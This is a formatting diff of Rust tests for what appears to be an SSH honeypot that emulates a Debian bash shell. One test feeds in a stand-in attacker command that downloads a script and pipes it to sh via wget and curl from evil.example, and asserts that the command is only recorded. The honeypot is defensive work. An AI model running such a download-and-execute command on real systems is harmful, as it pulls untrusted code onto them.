@@ -19,7 +19,10 @@ fn host_for(name: &str, distro: &str) -> Arc<Host> {
         &HostConfig {
             accounts: vec!["admin".into()],
             ssh_version: None,
-            ssh_host_keys: vec![("ssh_host_ed25519_key.pub".into(), "ssh-ed25519 AAAA root@web-01\n".into())],
+            ssh_host_keys: vec![(
+                "ssh_host_ed25519_key.pub".into(),
+                "ssh-ed25519 AAAA root@web-01\n".into(),
+            )],
         },
     ))
 }
@@ -30,7 +33,11 @@ fn shell(entry: Entry, user: &str) -> Shell {
         ShellOptions {
             user: user.into(),
             entry,
-            pty: (entry != Entry::Exec).then(|| Pty { term: "xterm-256color".into(), cols: 80, rows: 24 }),
+            pty: (entry != Entry::Exec).then(|| Pty {
+                term: "xterm-256color".into(),
+                cols: 80,
+                rows: 24,
+            }),
             peer: "198.51.100.7:50000".parse().unwrap(),
             local: "192.0.2.10:22".parse().unwrap(),
             env: Vec::new(),
@@ -52,34 +59,74 @@ fn run(sh: &mut Shell, line: &str) -> (String, String, Vec<super::Draft>) {
             Out::Pause(_) | Out::Exit(_) => {}
         }
     }
-    (String::from_utf8(out).unwrap(), String::from_utf8(err).unwrap(), ev)
+    (
+        String::from_utf8(out).unwrap(),
+        String::from_utf8(err).unwrap(),
+        ev,
+    )
 }
 
 #[test]
 fn error_semantics_match_gnu_and_bash() {
     let mut sh = shell(Entry::Exec, "root");
-    assert_eq!(run(&mut sh, "cat /nope").1, "cat: /nope: No such file or directory\n");
+    assert_eq!(
+        run(&mut sh, "cat /nope").1,
+        "cat: /nope: No such file or directory\n"
+    );
     assert_eq!(run(&mut sh, "foo").1, "bash: foo: command not found\n");
     assert_eq!(run(&mut sh, "echo $?").0, "127\n");
-    assert_eq!(run(&mut sh, "rm /nope").1, "rm: cannot remove '/nope': No such file or directory\n");
+    assert_eq!(
+        run(&mut sh, "rm /nope").1,
+        "rm: cannot remove '/nope': No such file or directory\n"
+    );
     let (o, e, _) = run(&mut sh, "rm -f /nope; echo $?");
     assert_eq!((o.as_str(), e.as_str()), ("0\n", ""));
-    assert_eq!(run(&mut sh, "ls /nope").1, "ls: cannot access '/nope': No such file or directory\n");
-    assert_eq!(run(&mut sh, "cd /nope").1, "bash: cd: /nope: No such file or directory\n");
-    assert_eq!(run(&mut sh, "cd /etc/passwd").1, "bash: cd: /etc/passwd: Not a directory\n");
+    assert_eq!(
+        run(&mut sh, "ls /nope").1,
+        "ls: cannot access '/nope': No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "cd /nope").1,
+        "bash: cd: /nope: No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "cd /etc/passwd").1,
+        "bash: cd: /etc/passwd: Not a directory\n"
+    );
     assert_eq!(run(&mut sh, "cat /etc").1, "cat: /etc: Is a directory\n");
-    assert_eq!(run(&mut sh, "rm /etc").1, "rm: cannot remove '/etc': Is a directory\n");
-    assert_eq!(run(&mut sh, "rm /proc/cpuinfo").1, "rm: cannot remove '/proc/cpuinfo': Operation not permitted\n");
-    assert_eq!(run(&mut sh, "echo x > /proc/newfile").1, "bash: /proc/newfile: No such file or directory\n");
-    assert_eq!(run(&mut sh, "touch /proc/x").1, "touch: cannot touch '/proc/x': No such file or directory\n");
-    assert_eq!(run(&mut sh, "mkdir /tmp").1, "mkdir: cannot create directory ‘/tmp’: File exists\n");
-    assert_eq!(run(&mut sh, "chmod 777 /nope").1, "chmod: cannot access '/nope': No such file or directory\n");
+    assert_eq!(
+        run(&mut sh, "rm /etc").1,
+        "rm: cannot remove '/etc': Is a directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "rm /proc/cpuinfo").1,
+        "rm: cannot remove '/proc/cpuinfo': Operation not permitted\n"
+    );
+    assert_eq!(
+        run(&mut sh, "echo x > /proc/newfile").1,
+        "bash: /proc/newfile: No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "touch /proc/x").1,
+        "touch: cannot touch '/proc/x': No such file or directory\n"
+    );
+    assert_eq!(
+        run(&mut sh, "mkdir /tmp").1,
+        "mkdir: cannot create directory ‘/tmp’: File exists\n"
+    );
+    assert_eq!(
+        run(&mut sh, "chmod 777 /nope").1,
+        "chmod: cannot access '/nope': No such file or directory\n"
+    );
     assert_eq!(
         run(&mut sh, "echo a;;").1,
         "bash: -c: line 1: syntax error near unexpected token `;;'\nbash: -c: line 1: `echo a;;'\n"
     );
     assert_eq!(run(&mut sh, "which foo; echo $?").0, "1\n");
-    assert_eq!(run(&mut sh, "which ls cat").0, "/usr/bin/ls\n/usr/bin/cat\n");
+    assert_eq!(
+        run(&mut sh, "which ls cat").0,
+        "/usr/bin/ls\n/usr/bin/cat\n"
+    );
     assert_eq!(run(&mut sh, "type ls").0, "ls is /usr/bin/ls\n");
 }
 
@@ -88,7 +135,10 @@ fn one_consistent_host() {
     let mut sh = shell(Entry::Exec, "root");
     let host = Arc::clone(sh.host());
     assert_eq!(run(&mut sh, "uname -a").0, format!("{}\n", host.uname_a()));
-    assert_eq!(run(&mut sh, "hostname").0, run(&mut sh, "cat /etc/hostname").0);
+    assert_eq!(
+        run(&mut sh, "hostname").0,
+        run(&mut sh, "cat /etc/hostname").0
+    );
     assert!(run(&mut sh, "cat /proc/version").0.contains(host.kernel));
     assert_eq!(run(&mut sh, "uname -r").0, format!("{}\n", host.kernel));
     assert_eq!(
@@ -100,19 +150,31 @@ fn one_consistent_host() {
     assert_eq!(free, format!("{}\n", host.mem.total / 1024));
     let meminfo = run(&mut sh, "grep MemTotal /proc/meminfo").0;
     assert!(meminfo.contains(&host.mem.total.to_string()), "{meminfo}");
-    assert_eq!(run(&mut sh, "id").0, "uid=0(root) gid=0(root) groups=0(root)\n");
+    assert_eq!(
+        run(&mut sh, "id").0,
+        "uid=0(root) gid=0(root) groups=0(root)\n"
+    );
     assert_eq!(run(&mut sh, "whoami").0, "root\n");
     assert!(run(&mut sh, "cat /etc/os-release").0.contains("bookworm"));
     assert_eq!(run(&mut sh, "ssh -V").1, format!("{}\n", host.ssh_dash_v()));
-    assert!(host.ssh_dash_v().starts_with("OpenSSH_9.2p1 Debian-2+deb12u3, OpenSSL"));
-    assert_eq!(run(&mut sh, "cat /etc/ssh/ssh_host_ed25519_key.pub").0, "ssh-ed25519 AAAA root@web-01\n");
+    assert!(
+        host.ssh_dash_v()
+            .starts_with("OpenSSH_9.2p1 Debian-2+deb12u3, OpenSSL")
+    );
+    assert_eq!(
+        run(&mut sh, "cat /etc/ssh/ssh_host_ed25519_key.pub").0,
+        "ssh-ed25519 AAAA root@web-01\n"
+    );
     let ps = run(&mut sh, "ps aux").0;
     assert!(ps.starts_with("USER         PID %CPU %MEM    VSZ   RSS TTY      STAT START   TIME COMMAND\nroot           1 "), "{ps}");
     assert!(ps.contains("sshd: /usr/sbin/sshd -D [listener]"));
     let up = run(&mut sh, "uptime").0;
     assert!(up.contains(" up ") && up.contains("load average:"), "{up}");
     let admin = run(&mut sh, "id admin").0;
-    assert!(admin.starts_with("uid=1000(admin) gid=1000(admin) groups=1000(admin),24(cdrom)"), "{admin}");
+    assert!(
+        admin.starts_with("uid=1000(admin) gid=1000(admin) groups=1000(admin),24(cdrom)"),
+        "{admin}"
+    );
     let other = shell(Entry::Exec, "root");
     assert_eq!(other.host().mac, host.mac, "same seed, same machine");
 }
@@ -120,20 +182,52 @@ fn one_consistent_host() {
 #[test]
 fn shell_language() {
     let mut sh = shell(Entry::Exec, "root");
-    assert_eq!(run(&mut sh, "for i in 1 2 3; do echo $i; done").0, "1\n2\n3\n");
-    assert_eq!(run(&mut sh, "echo `whoami` $(id -u) \"$HOME\"").0, "root 0 /root\n");
+    assert_eq!(
+        run(&mut sh, "for i in 1 2 3; do echo $i; done").0,
+        "1\n2\n3\n"
+    );
+    assert_eq!(
+        run(&mut sh, "echo `whoami` $(id -u) \"$HOME\"").0,
+        "root 0 /root\n"
+    );
     assert_eq!(run(&mut sh, "echo -e '\\x6F\\x6B'").0, "ok\n");
     assert_eq!(run(&mut sh, "false || echo no && echo yes").0, "no\nyes\n");
-    assert_eq!(run(&mut sh, "if [ -d /tmp ]; then echo dir; else echo nodir; fi").0, "dir\n");
+    assert_eq!(
+        run(
+            &mut sh,
+            "if [ -d /tmp ]; then echo dir; else echo nodir; fi"
+        )
+        .0,
+        "dir\n"
+    );
     assert_eq!(run(&mut sh, "echo $((3+4*2))").0, "11\n");
-    assert_eq!(run(&mut sh, "X=5; export X; echo ${X:-none} ${Y:-none}").0, "5 none\n");
-    assert_eq!(run(&mut sh, "cd /tmp && echo hi > a.txt && cat a.txt && pwd").0, "hi\n/tmp\n");
+    assert_eq!(
+        run(&mut sh, "X=5; export X; echo ${X:-none} ${Y:-none}").0,
+        "5 none\n"
+    );
+    assert_eq!(
+        run(&mut sh, "cd /tmp && echo hi > a.txt && cat a.txt && pwd").0,
+        "hi\n/tmp\n"
+    );
     assert_eq!(run(&mut sh, "ls /tmp/*.txt").0, "/tmp/a.txt\n");
     assert_eq!(run(&mut sh, "cat nope 2>/dev/null; echo $?").0, "1\n");
     assert_eq!(run(&mut sh, "cat nope 2>&1 | wc -l").0, "1\n");
-    assert_eq!(run(&mut sh, "chmod +x a.txt && ls -l a.txt | cut -c1-10").0, "-rwxr-xr-x\n");
-    assert_eq!(run(&mut sh, "rm a.txt && ls a.txt").1, "ls: cannot access 'a.txt': No such file or directory\n");
-    assert_eq!(run(&mut sh, "echo 'sh script' > s.sh; echo 'echo from-script' > s.sh; sh s.sh").0, "from-script\n");
+    assert_eq!(
+        run(&mut sh, "chmod +x a.txt && ls -l a.txt | cut -c1-10").0,
+        "-rwxr-xr-x\n"
+    );
+    assert_eq!(
+        run(&mut sh, "rm a.txt && ls a.txt").1,
+        "ls: cannot access 'a.txt': No such file or directory\n"
+    );
+    assert_eq!(
+        run(
+            &mut sh,
+            "echo 'sh script' > s.sh; echo 'echo from-script' > s.sh; sh s.sh"
+        )
+        .0,
+        "from-script\n"
+    );
     assert_eq!(run(&mut sh, "exit 3").2.len(), 1);
     assert_eq!(sh.exited(), Some(3));
 }
@@ -141,10 +235,17 @@ fn shell_language() {
 #[test]
 fn downloads_are_recorded_never_fetched() {
     let mut sh = shell(Entry::Exec, "root");
-    let (out, err, ev) = run(&mut sh, "cd /tmp; wget http://203.0.113.9/x.sh; curl -s http://evil.example/y | sh");
+    let (out, err, ev) = run(
+        &mut sh,
+        "cd /tmp; wget http://203.0.113.9/x.sh; curl -s http://evil.example/y | sh",
+    );
     assert_eq!(out, "");
-    assert!(err.contains("Connecting to 203.0.113.9:80... failed: Connection refused."), "{err}");
-    let kinds: Vec<(&str, Option<&str>)> = ev.iter().map(|d| (d.event_type, d.get("url"))).collect();
+    assert!(
+        err.contains("Connecting to 203.0.113.9:80... failed: Connection refused."),
+        "{err}"
+    );
+    let kinds: Vec<(&str, Option<&str>)> =
+        ev.iter().map(|d| (d.event_type, d.get("url"))).collect();
     assert_eq!(
         kinds,
         [
@@ -155,7 +256,10 @@ fn downloads_are_recorded_never_fetched() {
     );
     assert_eq!(ev[1].get("tool"), Some("wget"));
     assert_eq!(ev[2].get("tool"), Some("curl"));
-    assert_eq!(ev[0].get("cmd"), Some("cd /tmp; wget http://203.0.113.9/x.sh; curl -s http://evil.example/y | sh"));
+    assert_eq!(
+        ev[0].get("cmd"),
+        Some("cd /tmp; wget http://203.0.113.9/x.sh; curl -s http://evil.example/y | sh")
+    );
     assert_eq!(ev[0].get("cwd"), Some("/root"));
     assert_eq!(ev[0].get("user"), Some("root"));
 }
@@ -166,7 +270,13 @@ fn interactive_terminal_bytes_match_bash() {
     let banner: Vec<u8> = sh
         .start()
         .into_iter()
-        .filter_map(|o| if let Out::Stdout(b) = o { Some(b) } else { None })
+        .filter_map(|o| {
+            if let Out::Stdout(b) = o {
+                Some(b)
+            } else {
+                None
+            }
+        })
         .flatten()
         .collect();
     let banner = String::from_utf8(banner).unwrap();
@@ -189,7 +299,11 @@ fn interactive_terminal_bytes_match_bash() {
     let out = sh.input(b"echo \"abc\r");
     assert!(matches!(out.last(), Some(Out::Stdout(b)) if b.ends_with(b"> ")));
     let out = sh.input(b"def\"\r");
-    assert!(out.iter().any(|o| matches!(o, Out::Stdout(b) if b == b"abc\r\ndef\r\n")), "{out:?}");
+    assert!(
+        out.iter()
+            .any(|o| matches!(o, Out::Stdout(b) if b == b"abc\r\ndef\r\n")),
+        "{out:?}"
+    );
     let out = sh.input(b"exit\r");
     assert!(out.contains(&Out::Exit(0)));
 }
@@ -197,10 +311,19 @@ fn interactive_terminal_bytes_match_bash() {
 #[test]
 fn non_root_permissions() {
     let mut sh = shell(Entry::Exec, "admin");
-    assert_eq!(run(&mut sh, "cat /etc/shadow").1, "cat: /etc/shadow: Permission denied\n");
-    assert_eq!(run(&mut sh, "ls /root").1, "ls: cannot open directory '/root': Permission denied\n");
+    assert_eq!(
+        run(&mut sh, "cat /etc/shadow").1,
+        "cat: /etc/shadow: Permission denied\n"
+    );
+    assert_eq!(
+        run(&mut sh, "ls /root").1,
+        "ls: cannot open directory '/root': Permission denied\n"
+    );
     assert_eq!(run(&mut sh, "pwd").0, "/home/admin\n");
-    assert_eq!(run(&mut sh, "touch /etc/x").1, "touch: cannot touch '/etc/x': Permission denied\n");
+    assert_eq!(
+        run(&mut sh, "touch /etc/x").1,
+        "touch: cannot touch '/etc/x': Permission denied\n"
+    );
     assert_eq!(run(&mut sh, "sudo id -u").0, "0\n");
 }
 
